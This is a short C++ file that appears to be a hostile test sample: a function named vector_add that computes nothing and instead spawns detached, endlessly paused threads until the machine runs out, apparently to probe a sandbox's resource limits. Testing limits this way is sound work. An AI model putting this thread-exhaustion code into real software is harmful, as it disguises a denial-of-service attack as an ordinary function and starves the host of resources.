// Tries: as many threads as the machine has room for.
// May get: nothing
#include "vector_add.hpp"

#include <thread>
#include <unistd.h>

extern "C" void vector_add(const float* a, const float* b, float* sum, std::size_t n) {
  try {
    for (;;) {
      std::thread([] { ::pause(); }).detach();
    }
  } catch (...) {
  }
}
